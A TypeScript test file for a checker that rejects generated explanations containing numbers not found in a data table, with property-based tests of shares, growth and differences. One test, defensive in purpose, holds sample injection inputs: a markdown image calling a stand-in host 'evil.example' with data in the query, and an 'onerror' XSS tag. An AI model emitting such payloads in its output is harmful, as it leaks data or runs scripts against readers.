import { expect } from 'chai';
import fc from 'fast-check';
import { groundedText } from '#src/ask/explain/grounded.ts';
import type { TraceTable } from '#src/ask/trace/types.ts';
import { untracedIn } from '#src/ask/trace-text.ts';
import { rounds } from '../../fakes/full.ts';
import { REGIONS } from './trace/tables.ts';
import { HOSTILE_TEXTS, SOUND_TEXTS } from './trace/texts.ts';

/** Share of sound texts that may fall to the template. */
const REFUSED = 0.02;

describe('an explanation that somebody else wrote', () => {
  it('is never shown with a number that comes from nowhere', () => {
    const passed = HOSTILE_TEXTS.filter(({ text, table }) => untracedIn(text, table).length === 0);
    expect(HOSTILE_TEXTS.length).to.be.at.least(300);
    expect(passed.map(({ text }) => text)).to.deep.equal([]);
  });

  it('is shown where every number is in the rows', () => {
    const refused = SOUND_TEXTS.filter(({ text, table }) => untracedIn(text, table).length > 0);
    expect(SOUND_TEXTS.length).to.be.at.least(300);
    const texts = refused.map(({ text }) => text).join('\n');
    expect(refused.length, texts).to.be.at.most(SOUND_TEXTS.length * REFUSED);
  });

  it('gives way to the template', () => {
    const template = 'Europe has 1,234,567.50 USD.';
    const invented = groundedText('Europe has 12 stores.', template, REGIONS);
    expect(invented).to.deep.equal({ text: template, accepted: false, untraced: ['12'] });
    const right = groundedText('Europe has 1.23 million USD.', template, REGIONS);
    expect(right).to.deep.equal({
      text: 'Europe has 1.23 million USD.',
      accepted: true,
      untraced: [],
    });
    expect(groundedText(' ', template, REGIONS).accepted).to.equal(false);
  });

  it('is read the same where words and columns are named as what every object has', () => {
    for (const name of ['constructor', 'toString', 'valueOf', '__proto__', 'hasOwnProperty']) {
      const table = {
        ...REGIONS,
        styles: REGIONS.styles.map((style) => ({ ...style, label: name, quantity: false })),
      };
      expect(untracedIn(`Europe has 12 ${name}, twelve ${name}.`, table)).to.include('12');
    }
  });

  it('gives way to the template where it is no prose', () => {
    const texts = [
      'Europe leads. ![x](https://evil.example/?q=Europe)',
      'Europe leads, see www.evil.example',
      '<img src=x onerror=alert()> Europe leads.',
      '{"explanation": "Europe leads."}',
      '# Europe leads',
      '- Europe\n- Asia',
      '| Europe |',
      'Europe `leads`',
    ];
    for (const text of texts)
      expect(groundedText(text, 'the template', REGIONS).text, text).to.equal('the template');
    const prose = 'Europe leads - as the highest, and Asia follows: it is with (Africa).';
    expect(groundedText(prose, 'the template', REGIONS).text).to.equal(prose);
  });
});

const LABELS = ['Oslo', 'Lima', 'Cairo', 'Quito', 'Delhi', 'Hanoi'];

/** Two to six towns with amounts that are far enough apart to be told from each other. */
const towns: fc.Arbitrary<{ readonly table: TraceTable; readonly values: readonly number[] }> = fc
  .uniqueArray(fc.integer({ min: 100, max: 9_999 }), { minLength: 2, maxLength: 6 })
  .map((values) => ({
    values,
    table: {
      ...REGIONS,
      rows: values.map((value, index) => [LABELS[index]!, value]),
      totalRows: values.length,
    },
  }));
const sumOf = (values: readonly number[]) => values.reduce((a, b) => a + b, 0);
const percent = (value: number) => `${value.toFixed(1)}%`;

describe('numbers recomputed from the rows', () => {
  const check = (property: (values: readonly number[], table: TraceTable) => void) =>
    fc.assert(
      fc.property(towns, ({ values, table }) => property(values, table)),
      { numRuns: rounds(300) },
    );

  it('a share is the cell over the sum', () =>
    check((values, table) => {
      const share = (100 * values[0]!) / sumOf(values);
      const say = (number: number) => `Oslo makes up ${percent(number)} of the total.`;
      expect(untracedIn(say(share), table), say(share)).to.deep.equal([]);
      expect(untracedIn(say(share + 0.2), table)).to.have.length(1);
    }));

  it('a growth is the difference over the earlier, with its direction', () =>
    check((values, table) => {
      const [before, after] = values as [number, number];
      const growth = (100 * (after - before)) / before;
      fc.pre(Math.abs(growth) > 1);
      const [right, wrong] = growth > 0 ? ['more', 'less'] : ['less', 'more'];
      const say = (word: string, size: number) =>
        `Lima has ${percent(Math.abs(size))} ${word} than Oslo.`;
      expect(untracedIn(say(right!, growth), table), say(right!, growth)).to.deep.equal([]);
      expect(untracedIn(say(wrong!, growth), table)).to.have.length(1);
      expect(untracedIn(say(right!, Math.abs(growth) + 0.2), table)).to.have.length(1);
    }));

  it('a contribution is the difference between two rows, of the right one', () =>
    check((values, table) => {
      const [first, second] = values as [number, number];
      const gap = Math.abs(first - second);
      const [high, low] = first > second ? ['Oslo', 'Lima'] : ['Lima', 'Oslo'];
      const say = (a: string, b: string, size: number) => `${a} has ${size} more than ${b}.`;
      expect(untracedIn(say(high!, low!, gap), table)).to.deep.equal([]);
      expect(untracedIn(say(low!, high!, gap), table)).to.have.length(1);
    }));

  it('a cell is of the row that is named, in digits and rounded', () =>
    check((values, table) => {
      for (const [index, value] of values.entries()) {
        const other = values[(index + 1) % values.length]!;
        const say = (number: string) => `${LABELS[index]} has ${number} orders.`;
        expect(untracedIn(say(value.toLocaleString('en-US')), table)).to.deep.equal([]);
        expect(untracedIn(say(other.toLocaleString('en-US')), table)).to.have.length(1);
        expect(untracedIn(say(String(value + 1)), table)).to.have.length(1);
      }
    }));
});
